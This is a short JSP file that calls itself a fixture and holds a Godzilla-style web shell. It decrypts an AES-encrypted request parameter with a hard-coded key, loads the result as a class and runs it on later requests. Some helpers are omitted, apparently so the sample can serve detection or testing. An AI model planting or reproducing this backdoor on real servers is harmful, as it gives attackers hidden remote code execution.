<%@ page inert %>
<%! String xc = "0000000000000000"; String pass = "pass"; String md5 = md5(pass + xc);
class X extends ClassLoader { public X(ClassLoader z) { super(z); } public Class Q(byte[] cb) { return super.defineClass(cb, 0, cb.length); } }
public byte[] x(byte[] s, boolean m) {
  try {
    javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES");
    c.init(m ? 1 : 2, new javax.crypto.spec.SecretKeySpec(xc.getBytes(), "AES"));
    return c.doFinal(s);
  } catch (Exception e) { return null; }
}
/* md5 and base64 helpers left out of this fixture */
%>
<%
try {
  byte[] data = base64Decode(request.getParameter(pass));
  data = x(data, false);
  if (session.getAttribute("payload") == null) {
    session.setAttribute("payload", new X(this.getClass().getClassLoader()).Q(data));
  } else {
    request.setAttribute("parameters", data);
    Object f = ((Class) session.getAttribute("payload")).newInstance();
    java.io.ByteArrayOutputStream arrOut = new java.io.ByteArrayOutputStream();
    f.equals(arrOut);
    f.equals(pageContext);
    f.toString();
  }
} catch (Exception e) { }
%>
